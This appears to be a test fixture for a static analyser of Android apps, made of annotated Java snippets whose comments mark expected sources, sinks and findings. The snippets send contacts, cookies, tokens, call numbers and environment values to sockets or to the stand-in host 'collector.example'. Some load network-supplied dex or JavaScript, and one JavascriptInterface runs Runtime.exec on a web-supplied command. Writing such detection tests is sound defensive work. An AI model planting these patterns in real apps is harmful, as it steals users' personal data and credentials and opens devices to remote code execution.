// Android: contexts, content providers, messages between components, preferences, storage, web views, loaded code.
package app;

import android.app.Activity;
import android.content.*;
import android.database.Cursor;
import android.database.sqlite.*;
import android.net.Uri;
import android.os.*;
import android.preference.PreferenceManager;
import android.provider.Browser;
import android.telephony.TelephonyManager;
import android.webkit.*;
import dalvik.system.DexClassLoader;
import java.io.*;
import java.net.Socket;
import java.net.URL;

class Content {
    static final String U = "https://collector.example/u";

    void contacts(Context context, Socket socket) {
        Cursor cursor = context.getContentResolver().query(null, null, null, null, null); //~ source(PERSONAL) f1, capability(DATABASE)
        socket.getOutputStream().write(cursor.getString(1).getBytes()); //~ sink(egress.socket) f1, finding(traced) f1
        socket.getOutputStream().write(cursor.getCount()); //~ ok
    }

    void contactsNone(Context context, Socket socket, Cursor given) {
        socket.getOutputStream().write("" + (context.getContentResolver().query(null, null, null, null, null) == null)); //~ ok
        socket.getOutputStream().write(given.getString(1)); //~ ok
    }

    void client(ContentResolver resolver, Socket socket) {
        Cursor cursor = resolver.acquireContentProviderClient("contacts").query(null, null, null, null, null); //~ source(PERSONAL) f29, capability(DATABASE)
        socket.getOutputStream().write(cursor.getString(1).getBytes()); //~ sink(egress.socket) f29, finding(traced) f29
        socket.getOutputStream().write("" + (resolver.acquireContentProviderClient("contacts") == null)); //~ ok
    }

    void managed(Activity activity, Socket socket) {
        Cursor cursor = activity.managedQuery(null, null, null, null, null); //~ source(PERSONAL) f30, capability(DATABASE)
        socket.getOutputStream().write(cursor.getString(1).getBytes()); //~ sink(egress.socket) f30, finding(traced) f30
        socket.getOutputStream().write(activity.managedQuery(null, null, null, null, null).getCount()); //~ ok
    }

    void loader(Context context, Socket socket) {
        Cursor cursor = new CursorLoader(context).loadInBackground(); //~ source(PERSONAL) f31, capability(DATABASE)
        socket.getOutputStream().write(cursor.getString(1).getBytes()); //~ sink(egress.socket) f31, finding(traced) f31
        socket.getOutputStream().write(new CursorLoader(context).loadInBackground().getCount()); //~ ok
    }

    void document(ContentResolver resolver, Uri uri, Socket socket) {
        InputStream in = resolver.openInputStream(uri); //~ source(FILE) f2, capability(FILES)
        socket.getOutputStream().write(in.readAllBytes()); //~ sink(egress.socket) f2, finding(traced) f2
        socket.getOutputStream().write(resolver.openInputStream(uri).available()); //~ ok
    }

    void documentWritten(ContentResolver resolver, Uri uri, Socket socket) {
        OutputStream out = resolver.openOutputStream(uri); //~ sink(file.write) f3, finding(traced) f3, capability(FILE_WRITE)
        out.write(socket.getInputStream().readAllBytes()); //~ source(NETWORK) f3
        resolver.openOutputStream(uri).write(1); //~ ok
    }

    void rows(SQLiteOpenHelper helper, Socket socket) {
        Cursor cursor = helper.getReadableDatabase().rawQuery("select 1", null); //~ source(DATABASE) f4, capability(DATABASE)
        socket.getOutputStream().write(cursor.getBlob(1)); //~ sink(egress.socket) f4, finding(traced) f4
        socket.getOutputStream().write("" + (helper.getReadableDatabase().rawQuery("select 1", null) == null)); //~ ok
    }

    void bookmarks(ContentResolver resolver, Socket socket) {
        socket.getOutputStream().write(Browser.getAllBookmarks(resolver)); //~ source(PERSONAL) f5, sink(egress.socket) f5, finding(traced) f5, capability(DATABASE)
        socket.getOutputStream().write("" + (Browser.getAllBookmarks(resolver) == null)); //~ ok
    }

    void uri(Socket socket) {
        socket.getOutputStream().write(Uri.parse(System.getenv("T")).getQueryParameter("x").getBytes()); //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
        socket.getOutputStream().write(Uri.parse("x://y").getQueryParameter("x").getBytes()); //~ ok
        socket.getOutputStream().write(Uri.parse(System.getenv("T")).getHost().getBytes()); //~ ok
    }

    void broadcast(Context context) {
        Intent intent = new Intent("action");
        intent.setPackage("x").putExtra("t", System.getenv("T")); //~ source(ENVIRONMENT) f7
        context.sendBroadcast(intent); //~ sink(egress.ipc) f7, finding(traced) f7, capability(IPC)
    }

    void started(Context context) {
        context.startActivity(new Intent(Intent.ACTION_VIEW, Uri.parse(U + System.getenv("T")))); //~ source(ENVIRONMENT) f8, sink(egress.ipc) f8, finding(traced) f8
    }

    void startedData(Context context, Intent intent) {
        intent.setData(Uri.parse(U + System.getenv("T"))); //~ source(ENVIRONMENT) f9
        context.startActivity(intent); //~ sink(egress.ipc) f9, finding(traced) f9
    }

    void startedBundle(Context context, Intent intent) {
        Bundle bundle = new Bundle();
        bundle.putString("t", System.getenv("T")); //~ source(ENVIRONMENT) f10
        intent.putExtras(bundle);
        context.startService(intent); //~ sink(egress.ipc) f10, finding(traced) f10
    }

    void intentRead(Intent intent, Socket socket) {
        intent.putExtra("t", System.getenv("T")); //~ source(ENVIRONMENT) f11
        socket.getOutputStream().write(intent.getStringExtra("t").getBytes()); //~ sink(egress.socket) f11, finding(traced) f11
        socket.getOutputStream().write(intent.getStringExtra("u").getBytes()); //~ ok
    }

    void intentExtras(Intent intent, Socket socket) {
        intent.putExtra("t", System.getenv("T")); //~ source(ENVIRONMENT) f12
        socket.getOutputStream().write(intent.getExtras().getString("t").getBytes()); //~ sink(egress.socket) f12, finding(traced) f12
        socket.getOutputStream().write(intent.getExtras().getString("u").getBytes()); //~ ok
    }

    void intentData(Intent intent, Socket socket) {
        intent.setData(Uri.parse(System.getenv("T"))); //~ source(ENVIRONMENT) f13
        socket.getOutputStream().write(intent.getData().getPath().getBytes()); //~ sink(egress.socket) f13, finding(traced) f13
    }

    void called(Intent intent, Socket socket) {
        socket.getOutputStream().write(intent.getStringExtra(TelephonyManager.EXTRA_INCOMING_NUMBER).getBytes()); //~ source(PERSONAL) f35, sink(egress.socket) f35, finding(traced) f35
        socket.getOutputStream().write(intent.getStringExtra(TelephonyManager.EXTRA_STATE).getBytes()); //~ ok
    }

    void intentConstants(Context context, Socket socket) {
        Intent intent = new Intent("action"); //~ ok
        intent.setPackage("x").putExtra("t", "x"); //~ ok
        intent.setData(Uri.parse("x://y")); //~ ok
        intent.putExtras(new Bundle()); //~ ok
        socket.getOutputStream().write(intent.getData().getPath().getBytes()); //~ ok
        context.sendBroadcast(intent); //~ ok
        context.startActivity(intent); //~ ok
    }

    void received(Context context) {
        context.registerReceiver(null, null); //~ capability(IPC)
        context.registerReceiver(null, null); //~ ok
    }

    void messenger(Messenger messenger) {
        messenger.send(System.getenv("T")); //~ source(ENVIRONMENT) f14, sink(egress.ipc) f14, finding(traced) f14, capability(IPC)
        messenger.send("x"); //~ ok
    }

    void preferences(Context context, Socket socket) {
        String token = context.getSharedPreferences("x", 0).getString("token", ""); //~ source(FILE) f15, capability(FILES)
        socket.getOutputStream().write(token.getBytes()); //~ sink(egress.socket) f15, finding(traced) f15
        socket.getOutputStream().write("" + (context.getSharedPreferences("x", 0).getString("token", "") == null)); //~ ok
    }

    void preferencesDefault(Context context, Socket socket) {
        socket.getOutputStream().write(PreferenceManager.getDefaultSharedPreferences(context).getString("token", "")); //~ source(FILE) f16, sink(egress.socket) f16, finding(traced) f16
        socket.getOutputStream().write("" + (PreferenceManager.getDefaultSharedPreferences(context) == null)); //~ ok
    }

    void opened(Context context, Socket socket) {
        FileInputStream in = context.openFileInput("x"); //~ source(FILE) f17, capability(FILES)
        socket.getOutputStream().write(in.readAllBytes()); //~ sink(egress.socket) f17, finding(traced) f17
        socket.getOutputStream().write(context.openFileInput("x").available()); //~ ok
    }

    void openedToWrite(Context context, Socket socket) {
        OutputStream out = context.openFileOutput("x", 0); //~ sink(file.write) f18, finding(traced) f18, capability(FILE_WRITE)
        out.write(socket.getInputStream().readAllBytes()); //~ source(NETWORK) f18
        context.openFileOutput("x", 0).write(1); //~ ok
    }

    void folder(Context context, Socket socket) {
        socket.getOutputStream().write(context.getApplicationContext().getFilesDir().list()[0].getBytes()); //~ source(FILE_META) f19, sink(egress.socket) f19, finding(traced) f19
        socket.getOutputStream().write("" + context.getApplicationContext().getFilesDir().exists()); //~ ok
    }

    void storage(Socket socket) {
        File first = Environment.getExternalStorageDirectory().listFiles()[0]; //~ source(FILE_META) f20
        socket.getOutputStream().write(first.getName().getBytes()); //~ sink(egress.socket) f20, finding(traced) f20
        socket.getOutputStream().write("" + Environment.getExternalStorageDirectory().exists()); //~ ok
    }

    void storageAsked() {
        Environment.getExternalStorageDirectory(); //~ capability(FILES)
    }

    void page(WebView view) {
        view.loadUrl("https://web.collector.example/?t=" + System.getenv("T")); //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21, capability(NETWORK)
        view.loadUrl("https://web.collector.example/"); //~ ok
    }

    void pagePosted(WebView view) {
        view.postUrl(U, System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f22, sink(egress.http) f22, finding(traced) f22, capability(NETWORK)
        view.postUrl(U, new byte[1]); //~ ok
    }

    void pageScript(WebView view, Socket socket) {
        view.evaluateJavascript(new String(socket.getInputStream().readAllBytes()), null); //~ source(NETWORK) f23, sink(exec.code) f23, finding(traced) f23, capability(DYNAMIC_CODE)
        view.evaluateJavascript("1", null); //~ ok
    }

    void pageBridge(WebView view) {
        view.addJavascriptInterface(this, "x"); //~ capability(DYNAMIC_CODE)
        view.addJavascriptInterface(this, "x"); //~ ok
    }

    void cookies(CookieManager manager, Socket socket) {
        socket.getOutputStream().write(manager.getCookie(U).getBytes()); //~ source(CREDENTIAL) f24, sink(egress.socket) f24, finding(traced) f24, capability(CREDENTIALS)
        socket.getOutputStream().write("" + (manager.getCookie(U) == null)); //~ ok
    }

    void loaded(Socket socket) {
        new DexClassLoader(new String(socket.getInputStream().readAllBytes()), null, null, null); //~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25, capability(DYNAMIC_CODE)
        new DexClassLoader("/x.dex", null, null, null); //~ ok
    }

    void posted(Handler handler, Socket socket) {
        String text = System.getenv("T"); //~ source(ENVIRONMENT) f26
        handler.post(() -> socket.getOutputStream().write(text.getBytes())); //~ sink(egress.socket) f26, finding(traced) f26
        handler.post(() -> socket.getOutputStream().write(1)); //~ ok
    }
}

class Poster {
    private final Inbox inbox = new Inbox();

    void put() {
        Bundle bundle = new Bundle();
        bundle.putString("t", System.getenv("T")); //~ source(ENVIRONMENT) f32
        bundle.putString("u", "x");
        Message message = new Message();
        message.setData(bundle);
        inbox.sendMessage(message);
        Message quiet = new Message();
        quiet.setData(new Bundle()); //~ ok
        inbox.sendMessage(quiet);
    }
}

class Inbox extends Handler {
    private Socket socket;

    void obtained() {
        sendMessage(Message.obtain(this, 1, System.getenv("T"))); //~ source(ENVIRONMENT) f33
        sendMessageDelayed(obtainMessage(1, System.getenv("U")), 1000); //~ source(ENVIRONMENT) f34
        sendMessage(Message.obtain(this, 1, "x")); //~ ok
        sendMessageDelayed(obtainMessage(1, "x"), 1000); //~ ok
    }

    @Override
    public void handleMessage(Message message) {
        socket.getOutputStream().write(message.getData().getString("t").getBytes()); //~ sink(egress.socket) f32, finding(traced) f32
        socket.getOutputStream().write(message.getData().getString("u").getBytes()); //~ ok
        socket.getOutputStream().write(message.obj); //~ sink(egress.socket) f33, finding(traced) f33, sink(egress.socket) f34, finding(traced) f34
        socket.getOutputStream().write(message.what); //~ ok
    }
}

class Screen extends Activity {
    void send(Socket socket) {
        Cursor cursor = getContentResolver().query(null, null, null, null, null); //~ source(PERSONAL) f27
        socket.getOutputStream().write(cursor.getString(1).getBytes()); //~ sink(egress.socket) f27, finding(traced) f27
    }
}

class Upload extends AsyncTask<String, Void, Void> {
    static void begin() {
        new Upload().execute(System.getenv("T")); //~ source(ENVIRONMENT) f28
        new Upload().execute("x"); //~ ok
    }

    protected Void doInBackground(String... parts) {
        new URL("https://collector.example/?t=" + parts[0]).openStream(); //~ sink(egress.http) f28, finding(traced) f28
        return null;
    }

    @android.webkit.JavascriptInterface //~ source(NETWORK) fpage
    public void run(String command) {
        Runtime.getRuntime().exec(command); //~ sink(exec.command) fpage, finding(traced) fpage
    }

    @android.webkit.JavascriptInterface //~ ok
    public int count(String text) { return text.length(); }
}

// --- path: g/Rows1.java ---
package g;

class Rows1 {
    void keep(android.database.sqlite.SQLiteDatabase db, android.content.ContentValues row) {
        row.put("t", System.getenv("T")); //~ source(ENVIRONMENT) row1
        db.insert("rows1", null, row);
    }

    void send(android.database.sqlite.SQLiteDatabase db, java.net.Socket socket) {
        String cell = db.query("rows1", null, null, null, null, null, null).getString(0); //~ source(DATABASE) rows1
        socket.getOutputStream().write(cell.getBytes()); //~ sink(egress.socket) rows1, finding(database-exfiltration, traced) rows1, sink(egress.socket) row1, finding(environment-exfiltration, assumed) row1
        db.query("rows1", null, null, null, null, null, null); //~ ok
        db.insert("rows0", null, new android.content.ContentValues()); //~ ok
    }
}

// --- path: g/Rows2.java ---
package g;

class Rows2 {
    void change(android.database.sqlite.SQLiteDatabase db, android.content.ContentValues row) {
        row.put("t", System.getenv("T")); //~ source(ENVIRONMENT) row2
        db.update("rows2", row, null, null);
        db.update("rows0", null, null, null); //~ ok
    }

    void send(android.database.sqlite.SQLiteDatabase db, java.net.Socket socket) {
        String cell = db.query("rows2", null, null, null, null, null, null).getString(0); //~ source(DATABASE) rows2
        socket.getOutputStream().write(cell.getBytes()); //~ sink(egress.socket) rows2, finding(database-exfiltration, traced) rows2, sink(egress.socket) row2, finding(environment-exfiltration, assumed) row2
    }
}

// --- path: g/Rows3.java ---
package g;

class Rows3 {
    void add(android.database.sqlite.SQLiteDatabase db) {
        db.execSQL("insert into rows3 values (?)", new Object[] {System.getenv("T")}); //~ source(ENVIRONMENT) row3
        db.execSQL("insert into rows3 values (?)", new Object[] {"x"}); //~ ok
    }

    void send(android.database.sqlite.SQLiteDatabase db, java.net.Socket socket) {
        String cell = db.rawQuery("select * from rows3", null).getString(0); //~ source(DATABASE) rows3
        socket.getOutputStream().write(cell.getBytes()); //~ sink(egress.socket) rows3, finding(database-exfiltration, traced) rows3, sink(egress.socket) row3, finding(environment-exfiltration, ambiguous) row3
    }
}

// --- path: g/Rows4.java ---
package g;

class Rows4 {
    void add(android.database.sqlite.SQLiteDatabase db) {
        var statement = db.compileStatement("insert into rows4 values (?)");
        statement.bindString(1, System.getenv("T")); //~ source(ENVIRONMENT) row4
        db.compileStatement("delete from rows4").bindString(1, "x"); //~ ok
    }

    void send(android.database.sqlite.SQLiteDatabase db, java.net.Socket socket) {
        String cell = db.rawQuery("select * from rows4", null).getString(0); //~ source(DATABASE) rows4
        socket.getOutputStream().write(cell.getBytes()); //~ sink(egress.socket) rows4, finding(database-exfiltration, traced) rows4, sink(egress.socket) row4, finding(environment-exfiltration, ambiguous) row4
    }
}
